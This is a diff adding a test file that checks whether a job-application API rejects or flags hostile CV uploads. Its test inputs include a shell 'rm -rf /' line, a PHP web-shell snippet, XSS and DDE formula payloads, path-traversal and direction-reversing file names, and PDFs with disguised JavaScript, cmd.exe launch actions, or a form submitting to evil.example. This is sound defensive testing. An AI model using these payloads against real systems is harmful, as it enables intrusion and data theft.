@@ -1,0 +1,217 @@
+import { deflateSync, gzipSync } from 'node:zlib'
+import { expect, test } from 'vitest'
+import { GUEST_API } from '#contract/endpoints.ts'
+import { aCareerApplication, aPdf } from '../support/builders.ts'
+import { apiOn } from '../support/databases.ts'
+
+/** What people send as a CV, and what becomes of it. */
+
+const api = apiOn('SQLite', { cvMaximumBytes: 256 * 1024 })
+
+const bytes = (text: string) => Buffer.from(text, 'latin1')
+const text = aPdf().toString('latin1')
+const join = (...parts: (string | Buffer)[]) =>
+  Buffer.concat(parts.map((part) => (typeof part === 'string' ? bytes(part) : part)))
+const zip = join('PK\x03\x04', Buffer.alloc(26), 'PK\x05\x06', Buffer.alloc(18))
+
+/** A PDF whose catalog holds this, with these objects beside it. */
+const withCatalog = (entries: string, objects = '') =>
+  bytes(text.replace('/Type /Catalog', `/Type /Catalog ${entries}`).replace('xref\n', `${objects}\nxref\n`))
+
+/** A PDF with an object stream that holds this. */
+function withPacked(
+  object: string,
+  { filter = '/Filter /FlateDecode', pack = deflateSync as (data: Buffer) => Buffer } = {},
+) {
+  const header = '9 0 '
+  const stream = pack(bytes(header + object))
+  const dictionary = `<< /Type /ObjStm /N 1 /First ${header.length} ${filter} /Length ${stream.length} >>`
+  const table = text.indexOf('xref\n')
+  return join(
+    text.slice(0, table),
+    `8 0 obj\n${dictionary}\nstream\n`,
+    stream,
+    `\nendstream\nendobj\n${text.slice(table)}`,
+  )
+}
+
+type Row = [what: string, cv: Uint8Array, verdict: string, name?: string]
+
+const FILES: Row[] = [
+  // Not a PDF, whatever its name says.
+  ['nothing', bytes(''), 'cvEmpty'],
+  ['one zero byte', bytes('\0'), 'cvNotPdf'],
+  ['the header alone', bytes('%PDF-1.7'), 'cvDamaged'],
+  ['header and end alone', bytes('%PDF-1.7\n%%EOF'), 'cvDamaged'],
+  ['a Windows program', join('MZ', Buffer.alloc(500), text), 'cvNotPdf'],
+  ['a Linux program', join('\x7fELF', Buffer.alloc(60)), 'cvNotPdf'],
+  ['a shell script', bytes('#!/bin/sh\nrm -rf /\n'), 'cvNotPdf'],
+  ['a shell script with a PDF behind it', join('#!/bin/sh\nexit\n', text), 'cvNotPdf'],
+  ['a web page', bytes('<!doctype html><script>alert(1)</script>'), 'cvNotPdf'],
+  ['a web page that is a PDF too', join('<html><!--', text), 'cvNotPdf'],
+  ['a PDF that begins as a web page', bytes(text.replace('\n', '\n%<script>alert(1)</script>\n')), 'cvNotPdf'],
+  ['a PDF that begins as a drawing', bytes(text.replace('\n', '\n%<svg onload=alert(1)>\n')), 'cvNotPdf'],
+  ['a PDF that begins as a PHP page', bytes(text.replace('\n', '\n%<?php system($_GET[0]) ?>\n')), 'cvNotPdf'],
+  ['a picture', join('\x89PNG\r\n\x1a\n', Buffer.alloc(100)), 'cvNotPdf'],
+  ['a GIF that is a PDF too', join('GIF89a', text), 'cvNotPdf'],
+  ['an archive', zip, 'cvNotPdf'],
+  ['a PDF that is an archive too', join(text, zip), 'cvNotPdf'],
+  ['a PDF that is an archive with a comment', join(text, 'PK\x05\x06', Buffer.alloc(16), '\x05\0%%EOF'), 'cvNotPdf'],
+  ['a Word document of today', join(zip, 'word/document.xml'), 'cvNotPdf'],
+  ['a Word document of old', join('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(500)), 'cvNotPdf'],
+  ['PostScript', bytes('%!PS-Adobe-3.0\n%%EOF'), 'cvNotPdf'],
+  ['rich text', bytes('{\\rtf1 hello}'), 'cvNotPdf'],
+  ['a compressed PDF', gzipSync(text), 'cvNotPdf'],
+  ['a PDF in UTF-16', Buffer.from(text, 'utf16le'), 'cvNotPdf'],
+  ['a header too deep in the file', join(' '.repeat(2000), text), 'cvNotPdf'],
+  ['a header of another case', bytes(text.replace('%PDF', '%pdf')), 'cvNotPdf'],
+
+  // A PDF that does not open, or that hides something behind its end.
+  ['half a PDF', bytes(text.slice(0, text.length / 2)), 'cvDamaged'],
+  ['a PDF without its end', bytes(text.replace('%%EOF', '')), 'cvDamaged'],
+  ['a PDF with a script behind its end', join(text, '<script>alert(1)</script>'), 'cvNotPdf'],
+  ['a PDF with a program behind its end', join(text, 'MZ', Buffer.alloc(400)), 'cvDamaged'],
+  ['a PDF with many blanks behind its end', join(text, ' '.repeat(5000)), 'cvDamaged'],
+  ['a PDF without pages', bytes(text.replace('[3 0 R]', '[]')), 'cvDamaged'],
+  ['a PDF whose catalog has another name', bytes(text.replace('/Catalog', '/Cat')), 'stored'],
+  ['a PDF whose catalog leads nowhere', bytes(text.replace('/Pages 2 0 R', '/Pages 99 0 R')), 'cvDamaged'],
+  ['a PDF whose pages hold themselves', bytes(text.replace('[3 0 R]', '[2 0 R 2 0 R]')), 'cvDamaged'],
+  ['a PDF whose catalog is itself', bytes(text.replace('/Pages 2 0 R', '/Pages 1 0 R')), 'cvDamaged'],
+  ['arrays without end', bytes(`%PDF-1.4\n1 0 obj\n${'['.repeat(100_000)}\n%%EOF`), 'cvDamaged'],
+  ['dictionaries without end', bytes(`%PDF-1.4\n1 0 obj\n${'<</a'.repeat(50_000)}\n%%EOF`), 'cvDamaged'],
+  ['a string without end', bytes(`%PDF-1.4\n1 0 obj\n(${'('.repeat(100_000)}\n%%EOF`), 'cvDamaged'],
+  ['objects without end', bytes(`%PDF-1.4\n${'1 0 obj\n'.repeat(30_000)}%%EOF`), 'cvDamaged'],
+  ['trailers without end', bytes(`%PDF-1.4\n${'trailer <</Root 1 0 R>>\n'.repeat(10_000)}%%EOF`), 'cvDamaged'],
+  ['a number too large for any object', bytes(text.replaceAll('2 0 R', '99999999999999 0 R')), 'cvDamaged'],
+  ['a negative object number', bytes(text.replace('/Pages 2 0 R', '/Pages -2 0 R')), 'cvDamaged'],
+  ['a PDF one byte beyond the limit', aPdf({ padding: 'x'.repeat(256 * 1024) }), '413'],
+  ['a PDF far beyond the limit', aPdf({ padding: 'x'.repeat(3 * 1024 * 1024) }), '413'],
+
+  // Names that mean more than a name.
+  ['a name of another kind', aPdf(), 'cvNotPdf', 'cv.exe'],
+  ['two endings', aPdf(), 'cvNotPdf', 'cv.pdf.exe'],
+  ['a program that ends as a PDF', aPdf(), 'stored', 'cv.exe.pdf'],
+  ['a path upwards', aPdf(), 'cvFileName', '../../etc/cv.pdf'],
+  ['a path of Windows', aPdf(), 'cvFileName', 'C:\\cv.pdf'],
+  ['a name that turns its direction', aPdf(), 'cvFileName', 'cv\u202efdp.exe.pdf'],
+  ['a name of 300 letters', aPdf(), 'cvFileName', `${'ع'.repeat(300)}.pdf`],
+  ['a name with a tag', aPdf(), 'stored', '<img src=x onerror=alert(1)>.pdf'],
+  ['a name with a formula', aPdf(), 'stored', '=cmd|calc!A1.pdf'],
+  ['a name in Arabic', aPdf(), 'stored', 'سيرة ذاتية.pdf'],
+  ['a name of dots', aPdf(), 'stored', '...pdf'],
+
+  // PDFs that do more than be read are stored and marked.
+  ['a script when opened', withCatalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'cv-script'],
+  ['a script in disguise', withCatalog('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'), 'cv-script'],
+  ['a script in full disguise', withCatalog('/Names << /#4a#61#76#61#53#63#72#69#70#74 9 0 R >>'), 'cv-script'],
+  ['a script in another object', withCatalog('/OpenAction 9 0 R', '9 0 obj\n<< /JS (x) >>\nendobj'), 'cv-script'],
+  ['a script nobody points to', withCatalog('', '9 0 obj\n<< /S /JavaScript >>\nendobj'), 'cv-script'],
+  ['a script behind a comment', withCatalog('', '9 0 %\nobj\n<< /S /JavaScript >>\nendobj'), 'cv-script'],
+  ['a script behind a false stream', withCatalog('/T (>>\nstream\n) /OpenAction << /JS (x) >>'), 'cv-script'],
+  ['a script in a packed object', withPacked('<< /S /JavaScript /JS (x) >>'), 'cv-script'],
+  ['a disguised script in a packed object', withPacked('<< /S /Java#53cript >>'), 'cv-script'],
+  [
+    'a script packed but not compressed',
+    withPacked('<< /JS (x) >>', { filter: '', pack: (data) => data }),
+    'cv-script',
+  ],
+  [
+    'a script in a later edition',
+    join(text, '9 0 obj\n<< /JS (x) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
+    'cv-script',
+  ],
+  ['actions of a page', bytes(text.replace('/Type /Page ', '/Type /Page /AA << /O 9 0 R >> ')), 'cv-action'],
+  [
+    'a form that sends itself',
+    withCatalog('', '9 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj'),
+    'cv-action',
+  ],
+  ['a program to launch', withCatalog('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'cv-launch'],
+  ['a program to launch, in disguise', withCatalog('/OpenAction << /S /L#61unch >>'), 'cv-launch'],
+  ['an attachment', withCatalog('/Names << /EmbeddedFiles 9 0 R >>'), 'cv-attachment'],
+  [
+    'an attached stream',
+    withCatalog('', '9 0 obj\n<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream\nendobj'),
+    'cv-attachment',
+  ],
+  ['a film', withCatalog('', '9 0 obj\n<< /Subtype /RichMedia >>\nendobj'), 'cv-media'],
+  ['a form of forms', withCatalog('/AcroForm << /XFA 9 0 R >>'), 'cv-form'],
+  [
+    'several at once',
+    withCatalog('/AA << /O << /S /Launch >> >> /Names << /JavaScript 9 0 R >>'),
+    'cv-action cv-launch cv-script',
+  ],
+  ['packed objects that do not unpack', withPacked('', { pack: () => bytes('nonsense') }), 'cv-not-read-whole'],
+  [
+    'packed objects in an unknown way',
+    withPacked('<< /JS (x) >>', { filter: '/Filter /LZWDecode', pack: (data) => data }),
+    'cv-not-read-whole',
+  ],
+  [
+    'packed objects without end',
+    withPacked('', { pack: () => deflateSync(Buffer.alloc(32 * 1024 * 1024)) }),
+    'cv-not-read-whole',
+  ],
+
+  // PDFs that only look as if they did.
+  ['an honest CV', aPdf(), 'stored'],
+  ['a first page to begin with', withCatalog('/OpenAction [3 0 R /Fit]'), 'stored'],
+  ['a skill called HTML/JavaScript', withCatalog('/Title (HTML/JavaScript and /JS /Launch)'), 'stored'],
+  [
+    'a drawing that writes /JavaScript',
+    withCatalog('', '9 0 obj\n<< /Length 19 >>\nstream\n(/JavaScript /JS) Tj\nendstream\nendobj'),
+    'stored',
+  ],
+  ['a link', withCatalog('', '9 0 obj\n<< /S /URI /URI (https://github.example) >>\nendobj'), 'stored'],
+]
+
+test('there are enough of them', () => {
+  expect(FILES.length).toBeGreaterThanOrEqual(60)
+})
+
+test.each(FILES)('%s', async (_what, cv, verdict, name = 'cv.pdf') => {
+  const answer = await api.postForm('Form', aCareerApplication({ cv: { bytes: cv, name } }))
+  const body = await answer.json()
+  if (answer.status === 413) return expect('413').toBe(verdict)
+  if (answer.status === 422) return expect(body.errors).toEqual({ cv: [verdict] })
+  expect(answer.status).toBe(201)
+  const stored = await api.database.queries
+    .selectFrom('career_applications')
+    .innerJoin('cvs', 'career_application_id', 'career_applications.id')
+    .select(['doubtful', 'doubtful_reasons', 'bytes', 'file_name'])
+    .where('reference', '=', body.reference)
+    .executeTakeFirstOrThrow()
+  expect(stored.bytes.equals(cv)).toBe(true)
+  expect(stored.file_name).toBe(name)
+  expect(stored.doubtful_reasons || 'stored').toBe(verdict)
+  expect(stored.doubtful).toBe(verdict === 'stored' ? 0 : 1)
+})
+
+const CV = '--b\r\nContent-Disposition: form-data; name="cv"; filename="cv.pdf"\r\n\r\n'
+
+test.each([
+  ['no boundary', 'multipart/form-data', 'x', [400]],
+  ['an empty boundary', 'multipart/form-data; boundary=', 'x', [400]],
+  ['a boundary of 1,000 letters', `multipart/form-data; boundary=${'b'.repeat(1000)}`, 'x', [400, 422]],
+  ['nothing at all', 'multipart/form-data; boundary=b', '', [400, 422]],
+  ['an end without a beginning', 'multipart/form-data; boundary=b', '--b--\r\n', [400, 422]],
+  ['no end', 'multipart/form-data; boundary=b', `${CV}%PDF-`, [400]],
+  ['a part without headers', 'multipart/form-data; boundary=b', '--b\r\n\r\nx\r\n--b--\r\n', [400, 422]],
+  ['headers without end', 'multipart/form-data; boundary=b', `--b\r\n${'X-A: b\r\n'.repeat(5000)}`, [400, 413, 422]],
+  ['one header without end', 'multipart/form-data; boundary=b', `--b\r\nX-A: ${'b'.repeat(100_000)}`, [400, 413, 422]],
+  ['ten thousand fields', 'multipart/form-data; boundary=b', `${field('a')}`.repeat(10_000), [400, 413]],
+  ['a field twice', 'multipart/form-data; boundary=b', `${field('name')}${field('name')}--b--\r\n`, [400]],
+  ['a field called __proto__', 'multipart/form-data; boundary=b', `${field('__proto__')}--b--\r\n`, [422]],
+  ['a field called constructor', 'multipart/form-data; boundary=b', `${field('constructor')}--b--\r\n`, [422]],
+  ['a name with a line end', 'multipart/form-data; boundary=b', `${field('a%0d%0ab')}--b--\r\n`, [422]],
+  ['another kind of multipart', 'multipart/mixed; boundary=b', `${CV}x\r\n--b--\r\n`, [415]],
+  ['JSON under its name', 'multipart/form-data; boundary=b', '{"name":"x"}', [400, 422]],
+])('an upload with %s is refused', async (_what, type, body, statuses) => {
+  const answer = await fetch(`${api.url}${GUEST_API}Form`, { method: 'POST', headers: { 'content-type': type }, body })
+  expect(statuses).toContain(answer.status)
+  expect(answer.headers.get('content-type')).toContain('application/problem+json')
+})
+
+function field(name: string) {
+  return `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\nx\r\n`
+}
